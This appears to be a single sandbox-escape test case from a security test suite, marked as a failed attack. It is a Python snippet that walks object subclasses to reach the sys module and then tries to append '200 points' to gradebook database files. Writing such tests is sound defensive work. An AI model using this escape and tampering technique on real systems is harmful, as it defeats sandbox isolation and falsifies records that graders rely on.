# /// attack
# rows = [24]
# title = "give oneself points in the gradebook"
# verdict = "failed"
# ///
sys = next(
    c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "catch_warnings"
)()._module.sys

sqlite3 = sys.modules.get("sqlite3")
for path in ("COURSE/gradebook.db", "../gradebook.db"):
    try:
        with open(path, "a") as file:
            file.write("200 points")
    except OSError as error:
        print(type(error).__name__)
